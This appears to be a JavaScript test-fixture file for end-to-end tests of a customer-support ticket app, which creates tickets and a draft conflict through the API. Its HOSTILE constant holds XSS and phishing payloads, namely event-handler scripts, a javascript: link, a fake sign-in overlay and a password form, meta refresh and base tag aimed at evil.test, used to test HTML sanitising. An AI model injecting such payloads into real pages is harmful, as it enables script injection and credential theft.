// Tickets that show what the demo shop has none of, made through the API as the signed-in agent.

const ok = async (answer) => {
  if (!answer.ok()) throw new Error(`${answer.url()}: ${answer.status()} ${await answer.text()}`);
  return await answer.json();
};

/** A ticket of a customer who has orders, with these messages of the customer. @returns its id */
export async function makeTicket(page, subject, messages) {
  const { tickets } = await ok(await page.request.get('/api/tickets?page_size=1'));
  const { customer_id, customer_name } = tickets[0];
  const made = await ok(
    await page.request.post('/api/tickets', {
      data: { customer_id, customer_name, subject, first_message: 'Hello' },
    }),
  );
  for (const data of messages) {
    await ok(await page.request.post(`/api/tickets/${made.ticket.id}/messages`, { data }));
  }
  return made.ticket.id;
}

export const LETTER = `
  <h1>Order #7741</h1>
  <p>Dear team,</p>
  <p>two of the <b>three</b> parcels arrived. <a href="https://carrier.test/track?id=7741">The carrier says</a>:</p>
  <ol><li>Fabric, <i>delivered</i></li><li>Thread, <i>delivered</i></li><li>Kit, <u>on its way since Monday</u></li></ol>
  <table><tr><th>Item</th><th>Price</th></tr><tr><td>Fabric</td><td>$34.00</td></tr><tr><td>Kit</td><td>$89.50</td></tr></table>
  <p><img src="https://cdn.test/parcel.png" alt="The parcel" width="300" height="120"></p>
  <p>Could you look into it?</p>
  <blockquote><p>On Monday Mia wrote:</p><p>Your parcels are on their way. Tell us when something is missing.</p></blockquote>`;

export const HOSTILE = `
  <div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff">Please sign in again</div>
  <script>window.stolen = 'script'</script>
  <img src="/no-such-picture" onerror="window.stolen = 'onerror'">
  <svg onload="window.stolen = 'svg'"><animate onbegin="window.stolen = 'animate'" attributeName="x" dur="1s"></animate></svg>
  <form action="https://evil.test/"><input name="password" autofocus onfocus="window.stolen = 'focus'"><button>Go on</button></form>
  <meta http-equiv="refresh" content="0;url=https://evil.test/">
  <base href="https://evil.test/"><style>body { display: none }</style>
  <iframe srcdoc="<script>parent.stolen = 'frame'</script>"></iframe>
  <a href="javascript:window.stolen = 'link'">Click here</a>
  <p>The end of it</p>`;

/** Where the agent's draft went on in two places. @returns the ticket's id */
export async function makeDraftConflict(page) {
  const id = await makeTicket(page, 'A draft on two devices', []);
  const { agent } = await ok(await page.request.get('/api/auth/me'));
  const content = 'Dear customer,\n\nI asked the carrier, and the third parcel arrives tomorrow.';
  await ok(await page.request.put(`/api/tickets/${id}/draft?kind=REPLY`, { data: { content } }));
  const draft = {
    text: 'Dear customer,\n\nwe send the kit again today.',
    key: 'here',
    etag: '1',
    saved: false,
  };
  await page.evaluate(
    ([name, text]) => localStorage.setItem(name, text),
    [`quimbi.draft.${agent.id}.${id}.reply`, JSON.stringify(draft)],
  );
  return id;
}
